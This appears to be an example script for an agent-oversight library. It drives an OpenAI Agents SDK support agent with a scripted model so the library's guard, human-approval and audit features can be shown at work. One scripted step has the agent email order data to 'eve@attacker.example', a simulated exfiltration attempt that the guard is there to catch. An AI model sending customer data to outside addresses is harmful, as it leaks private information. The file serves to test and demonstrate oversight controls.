"""An OpenAI Agents SDK agent under the enclosure, driven by a scripted model.

No API key needed: the SDK's own ``ScriptedModel`` plays the model, and the real
``Runner.run`` loop calls the guarded tools. Run it from the repository root:
``.venv/bin/python examples/openai_agents/agent.py``. The decision log goes to
``$ENCLOSURE_HOME`` (default ``./.enclosure``).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import anyio
from agents import Agent, RunConfig, Runner, function_tool
from agents.testing import (
    ModelCall,
    ModelStep,
    ScriptedModel,
    assistant_message,
    function_call,
)

from enclosure import Enclosure
from enclosure.errors import RunKilled
from enclosure.integrations.openai_agents import guard_tools

HERE = Path(__file__).parent


@function_tool
def lookup_order(order_id: str) -> str:
    """Look an order up."""
    return f"order {order_id}: 2 items, paid 240"


@function_tool
def send_email(to: str, text: str) -> str:
    """Send an email."""
    return f"sent to {to}"


@function_tool
def refund(order_id: str, amount: int) -> str:
    """Refund part of an order."""
    return f"refunded {amount} on {order_id}"


@function_tool
def post_update(text: str) -> str:
    """Post a status update."""
    return "posted"


def last_output(model_call: ModelCall) -> str:
    """What the model read from the last tool call, as it would in its next turn."""
    items = [i for i in model_call.input if i.get("type") == "function_call_output"]
    text = str(items[-1]["output"])
    print(f"  model reads: {text}")
    return text


def script(enc: Enclosure) -> list[Any]:
    """The model's turns: one call each, a human approving the parked refund."""

    def call(name: str, args: dict[str, Any]) -> Any:
        def step(model_call: ModelCall) -> list[Any]:
            if len(model_call.input) > 1:
                last_output(model_call)
            n = len(model_call.input)
            print(f"model calls {name}({args})")
            return [function_call(name, args, call_id=f"call_{n}")]

        return ModelStep.respond(step)

    def approve_then(name: str, args: dict[str, Any]) -> Any:
        def step(model_call: ModelCall) -> list[Any]:
            found = re.search(r"apr_[0-9a-f]+", last_output(model_call))
            if found:
                enc.approvals.approve(found.group(), by="finance-lead")
                print(f"finance-lead approves {found.group()}")
            print(f"model calls {name}({args}) again")
            return [function_call(name, args, call_id="call_retry")]

        return ModelStep.respond(step)

    big_refund = {"order_id": "A-1", "amount": 240}
    return [
        call("lookup_order", {"order_id": "A-1"}),
        call("send_email", {"to": "eve@attacker.example", "text": "order data"}),
        call("post_update", {"text": "refund on its way"}),
        call("refund", big_refund),
        approve_then("refund", big_refund),
        *(
            call("send_email", {"to": f"c{n}@customers.example", "text": "hi"})
            for n in range(1, 6)
        ),
        [assistant_message("done")],
    ]


async def main() -> None:
    """Run the agent; the runaway email loop is stopped on the fourth email."""
    enc = Enclosure.load(HERE / "enclosure.yaml")
    with enc, enc.start_run(task="order A-1", started_by="support-service") as run:
        tools = guard_tools(run, [lookup_order, send_email, refund, post_update])
        agent = Agent(name="support", model=ScriptedModel(script(enc)), tools=tools)
        try:
            await Runner.run(
                agent, "Handle order A-1", run_config=RunConfig(tracing_disabled=True)
            )
        except RunKilled as exc:
            print(f"Runner.run stopped: {exc.code}: {exc.message}")
        print(f"audit intact: {enc.verify().ok}")


if __name__ == "__main__":
    anyio.run(main)
